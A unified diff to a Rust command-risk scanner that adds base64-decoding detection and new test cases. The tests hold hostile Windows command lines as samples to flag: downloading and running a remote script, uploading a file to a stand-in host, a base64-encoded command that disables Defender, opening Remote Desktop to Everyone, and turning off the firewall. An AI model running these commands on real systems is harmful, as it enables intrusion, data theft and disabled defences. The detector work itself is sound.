@@ -10,9 +10,10 @@ use super::Peeled;
 use super::hosts::hosts;
 use super::layer::Layer;
 use super::network::{fetched, is_run};
-use super::pattern::{Patterns, Wanted};
+use super::pattern::{Pattern, Patterns, Wanted};
+use super::peel::TEXT_IN_BASE64;
 use crate::risk::class::{Severity, class, rows};
-use crate::risk::report::RiskFinding;
+use crate::risk::report::{Evidence, RiskFinding};
 
 const TABLE: &str = include_str!("../data/commands.tsv");
 
@@ -21,7 +22,7 @@ struct Row {
     severity: Option<Severity>,
     attack: Option<&'static str>,
     /// A statement that fits this too is none of the class.
-    unless: Option<Regex>,
+    unless: Option<Pattern>,
 }
 
 static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
@@ -31,7 +32,7 @@ static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
                 class: class(name).name,
                 severity: Severity::of_word(severity),
                 attack: (*attack != "-").then_some(*attack),
-                unless: unless.first().map(|pattern| regex(pattern)),
+                unless: unless.first().map(|pattern| Pattern::new(*pattern)),
             },
             _ => panic!("a row of the commands has four or five columns: {row:?}"),
         })
@@ -66,7 +67,7 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
         let mut excused = None;
         PATTERNS.matches(text, |index, range| {
             let Some(row) = ROWS.get(index) else { return Wanted::NoMore };
-            if row.unless.as_ref().is_some_and(|unless| is_excused(text, index, &range, unless, &mut excused)) {
+            if row.unless.as_ref().is_some_and(|unless| is_excused(text, index, &range, unless.get(), &mut excused)) {
                 return Wanted::More;
             }
             let own = RiskFinding::new(row.class, subject);
@@ -89,13 +90,24 @@ pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
     if let Some(switch) = &peeled.encoded {
         worst.insert("encoded-command", RiskFinding::new("encoded-command", subject).shows(switch));
     }
+    let mut reasons: BTreeSet<&str> = peeled.obfuscated.iter().copied().collect();
+    if peeled.decodes {
+        match worst.values().any(|found| found.severity == Severity::High) {
+            true => drop(reasons.insert(TEXT_IN_BASE64)),
+            false => {
+                let found = || RiskFinding::new("encoded-command", subject);
+                let shows = |found: RiskFinding, layer: &Evidence| found.shows_layer(&layer.layer, &layer.text);
+                worst.entry("encoded-command").or_insert_with(|| peeled.layers.iter().fold(found(), shows));
+            }
+        }
+    }
     let has_colon = |line: &&str| line.contains(':') && line.contains('.');
     let stream =
         layers.iter().flat_map(|layer| layer.written.lines().filter(has_colon)).find_map(|line| STREAM.find(line));
     let stream = stream.map(|found| found.as_str().to_owned());
-    if !peeled.obfuscated.is_empty() || stream.is_some() {
+    if !reasons.is_empty() || stream.is_some() {
         let mut found = RiskFinding::new("obfuscated-command", subject);
-        for reason in &peeled.obfuscated {
+        for reason in reasons {
             found = found.shows_layer("why", reason);
         }
         if let Some(stream) = stream {
@@ -196,7 +208,7 @@ fn waits_long(text: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::read;
+    use super::{Regex, TABLE, read, rows};
     use crate::risk::command::peel;
 
     fn classes(line: &str) -> Vec<String> {
@@ -207,6 +219,11 @@ mod tests {
     #[test]
     fn the_patterns_are_sound() {
         assert!(classes("ver").is_empty());
+        for row in rows(TABLE) {
+            for pattern in row.iter().skip(3) {
+                assert!(Regex::new(pattern).is_ok(), "{pattern}");
+            }
+        }
     }
 
     #[test]
@@ -344,6 +361,13 @@ mod tests {
             "Execute StrReverse(\"ffo etats seliforplla tes llawerifvda hsten\"\" nuR.w\")",
             "curl https://a.example/a -o a.txt\r\nren a.txt a.bat\r\ncall a.bat",
             "iex ((Get-ItemProperty HKLM:\\SOFTWARE\\X).Payload)",
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:PAYLOAD)))",
+            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U2V0LU1wUHJlZmVyZW5jZSAtRGlzYWJsZVJlYWx0aW1lTW9uaXRvcmluZyAkdHJ1ZQ=='))",
+            "net localgroup \"Remote Desktop Users\" Everyone /add",
+            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
+            "curl -F file=@C:\\Users\\ann\\Documents\\list.xlsx https://a.example/",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f",
+            "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\Domain Users'",
             "For Each c In Array(110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)\r\ns = s & Chr(c)\r\nNext",
         ] {
             assert!(classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
@@ -367,6 +391,12 @@ mod tests {
             "set A=C:\\Contoso\nset B=\\tools\nxcopy . %A%%B% /e",
             "$n = 'Con' + 'toso'; Write-Host $n",
             "[Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')",
+            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V2VsY29tZSB0byBDb250b3NvLCBCZXJsaW4='))",
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCAid2VsY29tZSB0byBDb250b3NvIg==')))",
+            "net localgroup \"Remote Desktop Users\" CONTOSO\\helpdesk /add",
+            "Add-LocalGroupMember -SID S-1-5-32-555 -Member 'CONTOSO\\Field Support'",
+            "certutil -addstore Disallowed compromised.cer",
+            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
             "reg add HKLM\\x\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f",
             "reg add \"HKLM\\x\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 1 /f",
             "Disable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol -NoRestart",
@@ -437,6 +467,19 @@ mod tests {
         assert_eq!(quoted(&format!("@Echo Off\r\n\r\n  {line}\r\nExit"), "weakens-firewall"), line);
         let line = "IEX (IWR https://A.example/Run.ps1)";
         assert_eq!(quoted(line, "download-and-run"), line);
+    }
+
+    #[test]
+    fn what_is_grave_only_sometimes_is_found() {
+        for (line, class) in [
+            (r#"copy a.vbs C:\ProgramData\Microsoft\Windows\"Start Menu"\Programs\Startup\"#, "persistence medium"),
+            (r"Rename-Item C:\Windows\System32\wuaueng.dll wuaueng.bak", "weakens-updates medium"),
+            ("certutil -addstore Disallowed vendor.cer", "distrusts-certificate medium"),
+            ("net localgroup \"Remote Desktop Users\" CONTOSO\\helpdesk /add", "opens-remote-access medium"),
+            ("[Convert]::FromBase64String('V2VsY29tZSB0byBDb250b3NvLCBCZXJsaW4=')", "encoded-command medium"),
+        ] {
+            assert!(classes(line).contains(&class.to_owned()), "{line}: {:?}", classes(line));
+        }
     }
 
     #[test]
